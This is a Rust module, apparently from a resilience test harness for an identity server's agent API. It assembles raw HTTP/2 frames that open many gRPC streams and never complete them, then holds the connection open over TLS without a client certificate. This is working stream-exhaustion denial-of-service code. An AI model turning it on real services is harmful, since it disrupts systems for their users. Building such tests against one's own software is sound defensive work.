//! Raw HTTP/2 for the stream-exhaustion attacks: a connection that opens many
//! streams with complete request headers and never sends their message, over the
//! agent API's TLS (as a peer with no SVID) or a Unix socket, read in the
//! background so the server's own writes never block.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;

use tessera_core::TrustDomain;
use tessera_core::tls::SharedBundle;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

use crate::attack_net::connect_from;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len())
        .expect("frame size")
        .to_be_bytes();
    let mut out = vec![len[1], len[2], len[3], kind, flags];
    out.extend(stream.to_be_bytes());
    out.extend(payload);
    out
}

/// The preface, an empty SETTINGS frame, and `streams` HEADERS frames (END_HEADERS,
/// no END_STREAM) for a gRPC call to `path`: requests whose message never comes.
pub fn unfinished_requests(path: &str, streams: u32) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("workload.spiffe.io", "true"),
    ] {
        // Literal header field without indexing, new name, raw strings.
        block.push(0x00);
        for s in [name, value] {
            block.push(u8::try_from(s.len()).expect("short header"));
            block.extend(s.as_bytes());
        }
    }
    let mut out = PREFACE.to_vec();
    out.extend(frame(0x4, 0, 0, &[]));
    for i in 0..streams {
        out.extend(frame(0x1, 0x4, 1 + 2 * i, &block));
    }
    out
}

/// Writes `bytes` on `io` and keeps reading what comes back until the peer closes;
/// the task holds the connection for as long as it runs.
pub fn send_and_hold<IO>(mut io: IO, bytes: Vec<u8>) -> tokio::task::JoinHandle<()>
where
    IO: AsyncRead + AsyncWrite + Unpin + Send + 'static,
{
    tokio::spawn(async move {
        if io.write_all(&bytes).await.is_err() {
            return;
        }
        let mut buf = vec![0u8; 64 * 1024];
        while let Ok(n) = io.read(&mut buf).await {
            if n == 0 {
                break;
            }
        }
    })
}

/// A TLS connection to the agent API from `source`, without a client certificate.
pub async fn tls_from(
    source: IpAddr,
    target: SocketAddr,
    trust: Arc<SharedBundle>,
) -> std::io::Result<tokio_rustls::client::TlsStream<tokio::net::TcpStream>> {
    let td = TrustDomain::new("example.org").expect("trust domain");
    let server_id = td.id("/spire/server").expect("server ID");
    let config = Arc::new(tessera_core::tls::client_config(trust, server_id, None));
    let tcp = connect_from(source, target).await?;
    let name =
        rustls::pki_types::ServerName::try_from("tessera-server").map_err(std::io::Error::other)?;
    tokio_rustls::TlsConnector::from(config)
        .connect(name, tcp)
        .await
}
